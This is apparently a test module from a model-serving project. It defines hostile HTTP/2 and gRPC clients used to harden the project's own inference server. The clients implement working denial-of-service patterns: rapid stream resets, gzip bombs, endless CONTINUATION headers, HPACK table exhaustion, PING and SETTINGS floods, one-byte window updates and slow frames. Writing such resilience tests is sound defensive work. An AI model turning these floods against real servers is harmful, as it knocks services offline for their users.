"""Attacks on the gRPC port. Each function is one connection's life; when it returns, the next connection begins."""

from __future__ import annotations

import gzip
import itertools
import struct
from functools import cache
from typing import TYPE_CHECKING

from hpack import Encoder

from bertserve.loadtest.generator import frames
from bertserve.loadtest.generator.frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    frame,
    header_block,
    prefixed,
    reset,
    window_update,
)
from bertserve.loadtest.generator.grpc_messages import METHOD, bytes_field, infer_bytes, request_bytes
from tests.hostile.http_attacks import slow
from tests.hostile.lines import call_block, call_fields

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from tests.hostile.lines import H2Line

MODEL = "minilm"
_LIVE = "/inference.GRPCInferenceService/ServerLive"
_STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"
_MESSAGE_LIMIT = 4 << 20
_STREAMS = 256
_CALM_STREAMS = 200
_CANCELLED_BYTES = 2_000_000
_BATCH = 128
_BATCH_S = 0.05
"""Pause between two calls of many texts, so that eight connections ask for no more than the server can compute."""

_COMPUTED_S = 10.0
_BURST = 1000


@cache
def _message(size: int, model: str = MODEL) -> bytes:
    """A ModelInferRequest with a parameter that pads it to this size."""
    parameter = bytes_field(1, b"padding") + bytes_field(2, bytes_field(3, b" " * (size - 200)))
    return prefixed(request_bytes(model, "cancelled") + bytes_field(4, parameter))


@cache
def _batch() -> bytes:
    """A ModelInferRequest of 128 short texts; its reply has 200 KB."""
    return prefixed(infer_bytes(MODEL, {"text": ["a"] * _BATCH}))


@cache
def _short() -> bytes:
    return prefixed(request_bytes(MODEL, "short"))


def _calls(line: H2Line, message: bytes, count: int = 1) -> bytes:
    numbers = [line.stream() for _ in range(count)]
    return b"".join(
        frame(HEADERS, END_HEADERS, number, call_block()) + frame(DATA, END_STREAM, number, message)
        for number in numbers
    )


# Memory.


def cancelled_calls(line: H2Line) -> None:
    """Calls of 2 MB, canceled as soon as they are complete or a moment later."""
    line.begin()
    for pause in itertools.cycle((0.0, 0.001)):
        number = line.open()
        line.message(number, _message(_CANCELLED_BYTES))
        line.pace.rest(pause)
        line.send(reset(number))


def refused_messages(line: H2Line) -> None:
    """Messages of 4 MB for an unknown model, on a stream that outlives its refusals."""
    line.begin()
    number = line.open(_STREAM, ("triton_grpc_error", "true"))
    while True:
        line.message(number, _message(_MESSAGE_LIMIT, "absent"), 0)


def refused_calls(line: H2Line) -> None:
    """Calls of 4 MB for an unknown model."""
    line.begin()
    while True:
        number = line.open()
        line.message(number, _message(_MESSAGE_LIMIT, "absent"))


def half_messages(line: H2Line) -> None:
    line.begin()
    number = line.open()
    line.message(number, _message(_MESSAGE_LIMIT)[:-64], 0)
    line.hold()


@cache
def _bomb() -> bytes:
    return prefixed(gzip.compress(_message(_MESSAGE_LIMIT, "absent")[5:], 9), compressed=True)


def gzip_bombs(line: H2Line) -> None:
    """Compressed messages of 4 KB, at most 200 per second over all connections."""
    line.begin()
    while True:
        number = line.open(METHOD, ("grpc-encoding", "gzip"))
        line.send(frame(DATA, END_STREAM, number, _bomb()))
        line.pace.rest(0.04)


def closed_windows(line: H2Line) -> None:
    """As many calls as a connection has streams, with replies of 200 KB that no window lets out.

    Each call waits until the one before is computed: this attack is not about too many good calls.
    """
    line.begin((INITIAL_WINDOW_SIZE, 0))
    for count in range(1, _STREAMS + 1):
        line.send(_calls(line, _batch()))
        line.pace.rest(_BATCH_S)
        line.wait_for_replies(count, _COMPUTED_S)
    line.hold()


def unread_replies(line: H2Line) -> None:
    """The same with open windows, and nothing is read from the socket."""
    line.begin((INITIAL_WINDOW_SIZE, (1 << 31) - 1))
    line.reads = False
    while True:
        line.send(_calls(line, _batch()))
        line.pace.rest(_BATCH_S)


# The event loop.


def window_updates(line: H2Line) -> None:
    """Opens the connection's window by one byte at a time, while replies wait for it since the first one used it up."""
    line.begin(window=0)
    line.send(_calls(line, _short(), _CALM_STREAMS))
    line.pace.rest(0.1)
    while True:
        line.send(window_update(0, 1) * _BURST)


def one_byte_grants(line: H2Line) -> None:
    """Opens the windows of streams by one byte at a time."""
    line.begin((INITIAL_WINDOW_SIZE, 0))
    line.send(_calls(line, _short(), _CALM_STREAMS))
    line.pace.rest(0.1)
    line.send(b"".join(window_update(number, 1) for number in range(1, 2 * _CALM_STREAMS, 2)) * 1500)


def open_windows(line: H2Line) -> None:
    """Opens an open window, as often as possible before it is too large."""
    line.begin()
    number = line.open()
    while True:
        line.send(window_update(number, 1) * _BURST)


def _flood(payload: bytes) -> Callable[[H2Line], None]:
    def flood(line: H2Line) -> None:
        line.begin()
        line.open()
        burst = payload * _BURST
        while True:
            line.send(burst)

    return flood


priorities = _flood(frame(frames.PRIORITY, 0, 1, b"\0\0\0\0\x10"))
acknowledgements = _flood(frame(frames.SETTINGS, frames.ACK))
unknown_frames = _flood(frame(0xBB))
pings = _flood(frame(frames.PING, 0, 0, b"hostile!"))
empty_data = _flood(frame(DATA, 0, 1))
empty_settings = _flood(frames.settings())
ping_answers = _flood(frame(frames.PING, frames.ACK, 0, b"hostile!"))


def many_settings(line: H2Line) -> None:
    """2,730 settings in each frame, which open and close the windows of waiting streams."""
    line.begin((INITIAL_WINDOW_SIZE, 0))
    line.send(_calls(line, _short(), _CALM_STREAMS))
    line.pace.rest(0.1)
    values = frames.settings(*[(INITIAL_WINDOW_SIZE, size % 2) for size in range(2730)])
    while True:
        line.send(values)


def one_byte_data(line: H2Line) -> None:
    """Messages in frames of one byte."""
    line.begin()
    while True:
        number = line.open()
        line.send(frame(DATA, 0, number, struct.pack(">BI", 0, 60_000)))
        drop = frame(DATA, 0, number, b" ")
        for _ in range(59):
            line.send(drop * _BURST)
        line.send(drop * (_BURST - 1) + frame(DATA, END_STREAM, number, b" "))


def _refused_headers(blocks: Callable[[], Sequence[bytes]], first: bytes = b"") -> Callable[[H2Line], None]:
    """Calls whose headers are refused; `first` is a block sent before them."""
    made = cache(blocks)

    def refused(line: H2Line) -> None:
        line.begin()
        if first:
            line.send(frame(HEADERS, END_HEADERS | END_STREAM, line.stream(), first))
        for block in itertools.cycle(made()):
            line.send(_header_frames(line.stream(), block))

    return refused


def _header_frames(number: int, block: bytes) -> bytes:
    first, *others = (block[at : at + frames.FRAME_BYTES] for at in range(0, len(block), frames.FRAME_BYTES))
    if not others:
        return frame(HEADERS, END_HEADERS | END_STREAM, number, first)
    *middle, last = others
    return (
        frame(HEADERS, END_STREAM, number, first)
        + b"".join(frame(frames.CONTINUATION, 0, number, piece) for piece in middle)
        + frame(frames.CONTINUATION, END_HEADERS, number, last)
    )


def _repeated(reference: bytes) -> list[bytes]:
    """1,400 references of one byte to a field, in blocks that differ."""
    return [call_block(_LIVE) + reference * 1400 + header_block([("n", str(number))]) for number in range(1000)]


def _huffman() -> list[bytes]:
    """Header lists of 15 KB in Huffman code."""
    return [Encoder().encode([*call_fields(_LIVE), *((f"x-{number}", "abcdefgh" * 120) for number in range(15))])]


def _huffman_in_calls() -> list[bytes]:
    """Calls as good clients make them, with new values of 1 KB in Huffman code each time."""
    lists = ([*call_fields(_LIVE), ("x", f"{number:04d}" * 250)] for number in range(64))
    return [Encoder().encode([(*field, True) for field in each]) for each in lists]


def _filling() -> list[bytes]:
    """Fields that fill the dynamic table and evict one another."""
    fields = [b"\x40\x05x-%03d\x04%04d" % (number % 1000, number) for number in range(4000)]
    return [call_block(_LIVE) + b"".join(fields[at : at + 90]) for at in range(0, 3600, 90)]


references = _refused_headers(lambda: _repeated(b"\xbe"), call_block(_LIVE) + b"\x40\x01x\x01y")
static_references = _refused_headers(lambda: _repeated(b"\x90"))
huffman = _refused_headers(_huffman)
huffman_in_calls = _refused_headers(_huffman_in_calls)
indexed_headers = _refused_headers(_filling)


def distinct_headers(line: H2Line) -> None:
    """Header lists of 100 fields and 15 KB, no two alike."""
    block = call_block(_LIVE, *((f"x-header-{number}", "v" * 130) for number in range(94)))
    line.begin()
    while True:
        number = line.stream()
        end = header_block([("n", str(number))])
        line.send(frame(HEADERS, END_HEADERS, number, block + end) + frame(DATA, END_STREAM, number, prefixed(b"")))
        due = (number >> 1) - _STREAMS // 2
        if line.ended < due:
            line.wait_for_ends(due)


def continuations(line: H2Line) -> None:
    """A header block that never ends."""
    line.begin()
    number = line.stream()
    line.send(frame(HEADERS, 0, number, call_block()))
    while True:
        line.send(frame(frames.CONTINUATION, 0, number) * _BURST)


def rapid_resets(line: H2Line) -> None:
    line.begin()
    while True:
        line.send(b"".join(_calls(line, _short()) + reset(line.last) for _ in range(100)))


slow_frames = slow(frames.PREFACE + frames.settings() + frame(HEADERS, 0, 1, call_block()) + b"\0\x40\0\x09", b"\0")


def refused_streams(line: H2Line) -> None:
    """Calls of an unknown method, headers alone."""
    line.begin()
    block = call_block(METHOD + "X")
    while True:
        line.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, line.stream(), block) for _ in range(200)))
